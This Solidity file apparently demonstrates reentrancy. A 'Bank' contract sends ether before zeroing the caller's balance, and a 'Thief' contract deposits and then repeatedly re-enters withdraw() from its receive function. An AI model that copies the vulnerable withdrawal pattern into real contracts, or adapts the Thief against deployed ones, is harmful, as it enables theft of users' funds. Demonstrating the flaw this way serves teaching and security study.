// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

/// Sends before it writes down that it did.
contract Bank {
    mapping(address => uint256) public balances;

    function deposit() external payable {
        balances[msg.sender] += msg.value;
    }

    function withdraw() external {
        uint256 amount = balances[msg.sender];
        (bool sent,) = msg.sender.call{value: amount}("");
        require(sent, "not sent");
        balances[msg.sender] = 0;
    }
}

/// Withdraws again while it is paid.
contract Thief {
    Bank private immutable bank;
    uint256 private rounds;

    constructor(Bank robbed) {
        bank = robbed;
    }

    function attack() external payable {
        bank.deposit{value: msg.value}();
        bank.withdraw();
    }

    receive() external payable {
        if (rounds++ < 2) bank.withdraw();
    }
}
